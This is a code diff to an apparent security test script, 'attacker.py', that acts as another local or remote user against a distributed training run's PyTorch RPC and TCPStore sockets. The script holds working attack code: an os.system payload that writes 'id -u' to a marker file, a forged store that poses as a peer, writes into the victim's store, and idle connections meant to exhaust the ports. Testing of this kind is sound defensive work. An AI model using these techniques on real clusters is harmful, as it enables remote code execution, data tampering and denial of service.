@@ -1,4 +1,4 @@
-"""What another user of the machine tries on a run's sockets: `python attacker.py MARKER PORT...`, started by root.
+"""What another user tries on a run's sockets: `python attacker.py MARKER [HOST:]PORT...`, started by root.
 
 Prints a JSON object for each port: what a peer of its RPC and a client of its store were answered (nothing, where the
 answer ended the attacking process); and one about all ports. A command that it gets executed writes to MARKER.
@@ -13,7 +13,7 @@ import sys
 import threading
 import warnings
 from datetime import timedelta
-from typing import Any
+from typing import Any, NamedTuple
 
 NOBODY = 65534
 LIMIT_S = 8.0
@@ -30,20 +30,32 @@ class Payload:
         return os.system, (f"id -u >> {self.marker}",)
 
 
-def connects(port: int) -> bool:
+class Target(NamedTuple):
+    """A socket of the run; without a host it is on this machine."""
+
+    host: str
+    port: int
+
+    @classmethod
+    def parse(cls, text: str) -> Target:
+        host, _, port = text.rpartition(":")
+        return cls(host or "127.0.0.1", int(port))
+
+
+def connects(target: Target) -> bool:
     try:
-        socket.create_connection(("127.0.0.1", port), timeout=1.0).close()
+        socket.create_connection(target, timeout=1.0).close()
     except OSError:
         return False
     return True
 
 
-def use_store(port: int, found: dict[str, Any]) -> None:
+def use_store(target: Target, found: dict[str, Any]) -> None:
     """Read and change the store; TCPStore's client blocks beyond its timeout, so this is a daemon thread's work."""
     from torch.distributed import TCPStore
 
     try:
-        store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
+        store = TCPStore(*target, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
         store.set("stranger", "was here")
         found["store"] = store.get("stranger").decode()
         found["keys"] = store.num_keys()
@@ -51,7 +63,7 @@ def use_store(port: int, found: dict[str, Any]) -> None:
         found["store_error"] = str(error).splitlines()[0]
 
 
-def call(port: int, marker: str, found: dict[str, Any]) -> None:
+def call(target: Target, marker: str, found: dict[str, Any]) -> None:
     """Be a peer of RPC: a store of one's own names the victim's port as the address of worker 0."""
     from torch.distributed import HashStore, Store, autograd, rpc
     from torch.distributed.rpc import api
@@ -64,7 +76,7 @@ def call(port: int, marker: str, found: dict[str, Any]) -> None:
 
         def get(self, key: str) -> bytes:
             if key.endswith("addrs/victim"):
-                return f"uv://127.0.0.1:{port}".encode()
+                return f"uv://{target.host}:{target.port}".encode()
             return b"victim" if key.endswith("names/0") else real.get(key)
 
         def compare_set(self, key: str, expected: str, desired: str) -> bytes:
@@ -95,33 +107,33 @@ def call(port: int, marker: str, found: dict[str, Any]) -> None:
         found["builtin_error"] = str(error).splitlines()[0]
 
 
-def attack(port: int, marker: str) -> dict[str, Any]:
-    found: dict[str, Any] = {"port": port}
-    call(port, marker, found)  # first: TensorPipe stops listening when a connection ends before its greeting
-    found["connects"] = connects(port)
+def attack(target: Target, marker: str) -> dict[str, Any]:
+    found: dict[str, Any] = {"target": target}
+    call(target, marker, found)  # first: TensorPipe stops listening when a connection ends before its greeting
+    found["connects"] = connects(target)
     if found["connects"]:
-        thread = threading.Thread(target=use_store, args=(port, found), daemon=True)
+        thread = threading.Thread(target=use_store, args=(target, found), daemon=True)
         thread.start()
         thread.join(LIMIT_S)
     return found
 
 
-def be_idle(ports: list[int]) -> list[socket.socket]:
+def be_idle(targets: list[Target]) -> list[socket.socket]:
     """Connections that say nothing, as many as the ports take."""
     idle = []
-    for port in ports:
+    for target in targets:
         try:
-            idle += [socket.create_connection(("127.0.0.1", port), timeout=1.0) for _ in range(IDLE)]
+            idle += [socket.create_connection(target, timeout=1.0) for _ in range(IDLE)]
         except OSError:
             continue
     return idle
 
 
-def main(marker: str, ports: list[int]) -> None:
+def main(marker: str, targets: list[Target]) -> None:
     import torch.distributed.rpc  # noqa: F401  # before this process may not read it any more
 
     # The interpreter may lie in a folder that only root can enter, so what is imported at first use is imported now.
-    connects(1)
+    connects(Target("127.0.0.1", 1))
     import hpcdist.runtime.rpc  # noqa: F401
 
     os.setgroups([])
@@ -129,19 +141,19 @@ def main(marker: str, ports: list[int]) -> None:
     os.setuid(NOBODY)
     os.chdir("/")
     warnings.simplefilter("ignore")
-    os.environ["TP_SOCKET_IFNAME"] = "lo"
+    os.environ["TP_SOCKET_IFNAME"] = "lo" if targets[0].host == "127.0.0.1" else "eth0"
     children = []
-    for port in ports:
+    for target in targets:
         if (child := os.fork()) == 0:  # RPC starts once in a process
-            print(json.dumps(attack(port, marker)), flush=True)
+            print(json.dumps(attack(target, marker)), flush=True)
             os._exit(0)
         children.append(child)
     for child in children:
         os.waitpid(child, 0)
-    reachable = [port for port in ports if connects(port)]
+    reachable = [target for target in targets if connects(target)]
     print(json.dumps({"reachable": reachable, "idle": len(be_idle(reachable))}), flush=True)
     os._exit(0)
 
 
 if __name__ == "__main__":
-    main(sys.argv[1], [int(port) for port in sys.argv[2:]])
+    main(sys.argv[1], [Target.parse(text) for text in sys.argv[2:]])
